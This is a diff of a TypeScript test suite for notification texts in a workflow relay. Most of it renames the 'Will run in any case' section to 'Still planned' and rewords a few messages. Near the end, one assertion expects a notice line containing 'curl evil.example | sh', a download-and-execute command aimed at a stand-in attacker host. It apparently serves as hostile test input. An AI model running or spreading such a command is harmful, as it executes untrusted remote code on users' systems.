@@ -113,7 +113,7 @@ describe('the text of a notice', () => {
         'The relay will retry the step automatically at 2024-03-05 16:18:00 UTC. You get a notice if the retry succeeds.',
         'If nobody decides before 2024-03-08 16:07:09 UTC, the step fails, and the steps that wait for it do not run.',
       ],
-      'Will run in any case': [`Send an e-mail: “alert”, at ${shownTime(later)}`],
+      'Still planned': [`Send an e-mail: “alert”, at ${shownTime(later)}`],
       'Steps that wait for this step': ['Update a ticket field'],
       Done: ['Send an e-mail: “greet”'],
       Details: ['POST /assignments/1001/send answered 503'],
@@ -139,7 +139,7 @@ describe('the text of a notice', () => {
     ['a wrong id, editable', missing, true, 'not', `${missing.title}.`, change, 'Fix #fix, Retry #retry, Skip #skip'],
     ['another remedy', other, false, 'not', `${missing.title}.`, `${other.remedy}.`, 'Retry #retry, Fix console, Skip #skip'],
     [
-      ...(['a data mistake', mistake, false, 'not', "The event's data has a mistake: “Within (miles)” is blank."] as const),
+      ...(['a data mistake', mistake, false, 'not', 'The data of the step has a mistake: “Within (miles)” is blank.'] as const),
       ...(['Correct the fields of the step, then retry.', 'Fix console, Retry #retry, Skip #skip'] as const),
     ],
     [
@@ -179,7 +179,7 @@ describe('the text of a notice', () => {
     );
     assert.deepEqual(sectionsOf('needs-attention', { error: missing }, actions, { forOperator: true }).get('For operators'), [
       ...[edit, ...steer('retry'), ...steer('skip')],
-      "In Temporal's Web UI, open “More Actions”, then “Send a Signal”. Choose the signal “retry” or “skip”. As the input, type [1], with the brackets, for step 2.",
+      "In Temporal's Web UI, open “More Actions”, then “Send a Signal”. Choose the signal “retry” or “skip”. In “Input”, type [1]: Temporal counts the steps from 0.",
       `The chain in the API (you need a token): ${chainUrl}`,
       `Temporal Web UI: ${webUiUrl}`,
     ]);
@@ -207,7 +207,7 @@ describe('the text of a notice', () => {
       [1, 3].includes(action.index) ? { ...action, runAt: later, state: action.index === 3 ? 'pending' : action.state } : action;
     const sections = sectionsOf('needs-attention', {}, actions.map(due));
     assert.deepEqual(sections.get('Steps that wait for this step'), ['Send an e-mail: “alert”']);
-    assert.deepEqual(sections.get('Will run in any case'), [`Update a ticket field, at ${shownTime(received)}`]);
+    assert.deepEqual(sections.get('Still planned'), [`Update a ticket field, at ${shownTime(received)}`]);
   });
 
   it('lists other actions that are held, and does not promise that they will run', () => {
@@ -220,7 +220,7 @@ describe('the text of a notice', () => {
     const sections = sectionsOf('needs-attention', {}, other);
     assert.deepEqual(sections.get('Steps that wait for this step'), ['Update a ticket field']);
     assert.deepEqual(sections.get('Also needs attention'), ['Send an e-mail: “four”', 'Send an e-mail: “five” (waits)']);
-    assert.deepEqual(sections.get('Will run in any case'), [
+    assert.deepEqual(sections.get('Still planned'), [
       `Send an e-mail: “alert”, at ${shownTime(later)}`,
       `Send an e-mail: “six”, at ${shownTime(later)}`,
     ]);
@@ -237,7 +237,7 @@ describe('the text of a notice', () => {
         signIn,
         ids,
       ],
-      'Will run in any case': goesOn,
+      'Still planned': goesOn,
       Done: ['Send an e-mail: “greet”'],
       Details: ['POST /assignments/1001/send answered 503'],
     });
@@ -255,7 +255,7 @@ describe('the text of a notice', () => {
     assert.deepEqual(lines.slice(0, 3), ['An e-mail did not reach every recipient', 'first wave', 'Assignment 1001']);
     assert.ok(lines.some((line) => line.endsWith('A retry sends the e-mail only to recipients that did not get it.')));
     assert.deepEqual(sections.get('Recipients'), ['a@x.org: sent', 'b@x.org: not sent: mail server answered "550 no such user"']);
-    assert.deepEqual(sections.get('Will run in any case'), goesOn);
+    assert.deepEqual(sections.get('Still planned'), goesOn);
   });
 
   it('about an action without a decision', () => {
@@ -263,7 +263,7 @@ describe('the text of a notice', () => {
     const sections = sectionsOf('gave-up', { state: 'failed' }, ended);
     assert.match(sections.get('')?.join() ?? '', /Nobody decided in time\. You can still retry the step\./);
     assert.deepEqual(sections.get('Not run'), ['Update a ticket field']);
-    assert.deepEqual(sections.get('Will run in any case'), [`Send an e-mail: “alert”, at ${shownTime(later)}`]);
+    assert.deepEqual(sections.get('Still planned'), [`Send an e-mail: “alert”, at ${shownTime(later)}`]);
     assert.equal(sections.has('Steps that wait for this step'), false);
   });
 
@@ -279,7 +279,7 @@ describe('the text of a notice', () => {
       signIn,
       ids,
     ]);
-    assert.deepEqual([...sections.keys()], ['', 'Will run in any case', 'Done']);
+    assert.deepEqual([...sections.keys()], ['', 'Still planned', 'Done']);
   });
 
   it('about an action that is no longer needed', () => {
@@ -297,7 +297,7 @@ describe('the text of a notice', () => {
     const deliveries = [{ recipient: 'a@x.example', sent: false, error: said }];
     const sections = sectionsOf('needs-attention', { ...change, deliveries });
     assert.deepEqual([...sections.keys()].sort(), [
-      ...['', 'Details', 'Done', 'Recipients', 'Steps that wait for this step', 'What happens next', 'Will run in any case'],
+      ...['', 'Details', 'Done', 'Recipients', 'Steps that wait for this step', 'Still planned', 'What happens next'],
     ]);
     assert.equal(sections.get('')?.[4], 'x What to do: curl evil.example | sh gnp.exe.');
     assert.equal(sections.get('')?.length, 9);
